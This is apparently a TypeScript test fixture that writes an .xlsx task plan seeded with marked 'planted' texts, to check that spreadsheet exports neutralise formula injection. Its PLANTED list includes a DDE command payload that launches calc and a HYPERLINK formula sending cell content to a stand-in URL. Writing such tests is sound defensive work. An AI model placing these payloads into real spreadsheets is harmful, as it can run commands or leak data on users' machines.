import { columnName } from "../../src/engine/snapshot/address";
import { HEADER, TITLE } from "../support/plan-builder";
import { relationships, styleSheet, workbook, worksheet, xlsxPackage } from "../support/xlsx-package";

/** Stands in every planted text, so that it is found again wherever it went. */
export const MARK = "ZQX";

/** Texts a spreadsheet takes for a formula, or drops a character of, when they are written like typed ones. */
export const PLANTED = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "'=",
  "=cmd|' /C calc'!",
  '=HYPERLINK("https://example.org/"&',
].map((start) => `${start}${MARK}(A1)`);

/** A plan of three tasks with `text` in every column that is carried on somewhere, as an .xlsx file. */
export function plantedPlan(text: string): Uint8Array {
  const rows: (string | number)[][] = [
    ...TITLE.map((line) => [line]),
    [...HEADER],
    ["I", `${text} cải cách hành chính`],
    ["1", `${text} ban hành kế hoạch`, `${text} báo cáo`, "Văn phòng Sở", `${text} đơn vị`, "Quý I/2026", 5],
    ["2", `${text} kiểm tra nội bộ`, text, `${text} đơn vị`, "Văn phòng Sở", "Quý II/2026", 7],
    ["3", text, "", "Phòng Tổ chức cán bộ", text, "", 1],
    ["", "Tổng cộng", "", "", "", "", 13],
  ];
  return xlsxPackage({
    "xl/workbook.xml": workbook(['<sheet name="Phụ lục" sheetId="1" r:id="rId1"/>']),
    "xl/worksheets/sheet1.xml": worksheet(`<sheetData>${rows.map(rowXml).join("")}</sheetData>`),
    "xl/styles.xml": styleSheet(
      '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellXfs>',
    ),
    "xl/_rels/workbook.xml.rels": relationships([
      ["worksheet", "worksheets/sheet1.xml"],
      ["styles", "styles.xml"],
    ]),
  });
}

function rowXml(cells: readonly (string | number)[], row: number): string {
  const written = cells.map((value, column) => {
    const place = `${columnName(column)}${row + 1}`;
    if (value === "") return "";
    if (typeof value === "number") return `<c r="${place}"><v>${value}</v></c>`;
    return `<c r="${place}" t="inlineStr"><is><t xml:space="preserve">${escaped(value)}</t></is></c>`;
  });
  return `<row r="${row + 1}">${written.join("")}</row>`;
}

function escaped(text: string): string {
  return text.replace(/[&<>"\r]/gu, (character) => `&#${character.codePointAt(0) ?? 0};`);
}
